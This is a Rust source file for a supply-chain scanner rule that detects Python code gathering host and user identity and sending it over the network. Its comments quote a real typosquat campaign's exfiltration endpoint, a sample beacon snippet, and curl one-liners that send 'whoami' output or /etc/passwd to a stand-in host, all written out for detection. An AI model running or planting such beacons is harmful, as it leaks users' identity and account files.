//! PY101 `recon-exfiltration`: host and user identity gathered and sent out.
//!
//! **What it detects.** A file that collects who and where it runs (host
//! name, user name, local IP/MAC, the whole environment: `socket.gethostname`,
//! `platform.node`, `getpass.getuser`, `os.getlogin`, `uuid.getnode`,
//! `os.environ`, `whoami` output) and sends it over the network (urllib,
//! requests, http.client, raw sockets, a local helper that does so, or a DNS
//! lookup of a name built from it). Tracked through variables, dicts and
//! helper-function parameters; a flow is high confidence, mere
//! co-occurrence in a file that runs at install time is medium.
//!
//! **Why it matters.** The `mysl-python` flood (354 typosquats, 2021) ran
//! this in `setup.py`: OS, user name, host name and IP POSTed to
//! `http://175.24.100.2:8000/api/python/` on every `pip install`. It is the
//! first step of most install-time attacks (CWE-200, CWE-359).
//!
//! **Example.**
//! ```python
//! data = {"hostname": platform.node(), "username": getpass.getuser()}
//! urllib.request.urlopen(urllib.request.Request(URL, json.dumps(data).encode()))
//! ```
//!
//! A shell command that puts identity command output (`$(whoami)`,
//! `` `hostname` ``) or an account file (`-d @/etc/passwd`) into a
//! `curl`/`wget` request is the same act in one line
//! ([`crate::shell`]).
//!
//! **False positives.** Telemetry and error-reporting clients put the host
//! name into events they send (sentry, datadog). In library code without a
//! traced flow the rule stays low; with a flow it is high but not critical.

use sluice_model::{Confidence, Finding, Severity};

use super::facts::{Call, Caps, Facts, Labels, is_dns_call, is_proc_sink_name};
use super::{at_call, shell_line, urls_in};
use crate::FileRole;

/// Rule name.
pub const NAME: &str = "recon-exfiltration";

const STRONG: Labels = Labels(Labels::HOST.0 | Labels::USER.0 | Labels::IP.0);

fn is_sink(c: &Call) -> bool {
    if is_dns_call(c) {
        // `gethostbyname(gethostname())` resolves the local IP: recon, not
        // exfiltration. A *built* name carrying identity is a DNS channel.
        return c.built;
    }
    c.caps.has(Caps::NET)
}

/// Check one file.
#[must_use]
pub fn check(f: &Facts<'_>) -> Vec<Finding> {
    if let Some(fd) = shell_beacon(f) {
        return vec![fd];
    }
    let sinks: Vec<&Call> = f.calls.iter().filter(|c| is_sink(c)).collect();
    if sinks.is_empty() {
        return Vec::new();
    }
    let mut collected = Labels::NONE;
    let mut sources: Vec<String> = Vec::new();
    for c in &f.calls {
        let r = c.result & Labels(STRONG.0 | Labels::OS.0);
        if r != Labels::NONE && !is_sink(c) && !c.target.starts_with("local:") {
            collected |= r;
            let s = format!("{} (line {})", c.target, c.line);
            if sources.len() < 8 && !sources.contains(&s) {
                sources.push(s);
            }
        }
    }
    let traced: Vec<&&Call> = sinks
        .iter()
        // The whole environment is passed around (to subprocesses) all the
        // time; only code that runs unasked is held to sending it.
        .filter(|c| {
            c.arg_labels.has(STRONG)
                || (f.file.role.runs_unasked() && c.arg_labels.has(Labels::ENV_ALL))
        })
        .collect();
    let role = f.file.role;
    if let Some(best) = traced
        .iter()
        .max_by_key(|c| (!urls_in(&c.strings).is_empty(), c.arg_labels.0.count_ones()))
    {
        let sent = best.arg_labels & Labels(STRONG.0 | Labels::OS.0 | Labels::ENV_ALL.0);
        // Library code sending one identity fact (a hostname in a
        // notification e-mail, an IP to a geolocation API) is what
        // monitoring and telemetry do; a profile of the host (two or more
        // facts) or any of it sent unasked is the beacon.
        let facts_sent = (sent & Labels(STRONG.0 | Labels::OS.0)).0.count_ones();
        let sev = if role.runs_unasked() {
            Severity::Critical
        } else if facts_sent >= 2 || sent.has(Labels::ENV_ALL) {
            Severity::High
        } else {
            Severity::Medium
        };
        let mut fd = at_call(
            f,
            "PY101",
            NAME,
            sev,
            Confidence::High,
            format!("sends {} over the network", sent.names().join(", ")),
            best,
        )
        .evidence(format!("collects: {}", sent.names().join(", ")));
        for u in urls_in(traced.iter().flat_map(|c| c.strings.iter())) {
            fd = fd.evidence(format!("sends to: {u}"));
        }
        if !sources.is_empty() {
            fd = fd.evidence(format!("sources: {}", sources.join(", ")));
        }
        return vec![fd];
    }
    // Co-occurrence only: meaningful where the code runs unasked, and only
    // when the user's identity is gathered (the local IP or host name alone
    // is what network code looks up for itself).
    if !(collected.has(Labels::USER) && collected.has(Labels(Labels::HOST.0 | Labels::IP.0))) {
        return Vec::new();
    }
    let (sev, conf) = match role {
        FileRole::Install => (Severity::High, Confidence::Medium),
        FileRole::Import => (Severity::Medium, Confidence::Medium),
        _ => (Severity::Low, Confidence::Low),
    };
    let Some(sink) = sinks.first() else {
        return Vec::new();
    };
    let mut fd = at_call(
        f,
        "PY101",
        NAME,
        sev,
        conf,
        format!(
            "collects {} and talks to the network in the same file",
            (collected & STRONG).names().join(", ")
        ),
        sink,
    )
    .evidence(format!("collects: {}", collected.names().join(", ")));
    for u in urls_in(sinks.iter().flat_map(|c| c.strings.iter())) {
        fd = fd.evidence(format!("network: {u}"));
    }
    if !sources.is_empty() {
        fd = fd.evidence(format!("sources: {}", sources.join(", ")));
    }
    vec![fd]
}

/// `curl https://x/?u=$(whoami) -d "$(netstat -an)"`, `curl -d @/etc/passwd`:
/// a shell command that sends identity command output or a local account
/// file. Critical where the code runs unasked, high elsewhere: no client
/// library needs `whoami` in a URL.
fn shell_beacon(f: &Facts<'_>) -> Option<Finding> {
    let (c, word) = f
        .calls
        .iter()
        .filter(|c| c.caps.has(Caps::PROC) || is_proc_sink_name(&c.target))
        .find_map(|c| Some((c, crate::shell::analyse(&shell_line(c)).sends_host_data?)))?;
    let sev = if f.file.role.runs_unasked() {
        Severity::Critical
    } else {
        Severity::High
    };
    let mut fd = at_call(
        f,
        "PY101",
        NAME,
        sev,
        Confidence::High,
        "a shell command sends host identity or a local account file over the network",
        c,
    )
    .evidence(format!(
        "carried by: {}",
        word.chars().take(120).collect::<String>()
    ));
    for u in urls_in(&c.strings) {
        fd = fd.evidence(format!("sends to: {u}"));
    }
    Some(fd)
}
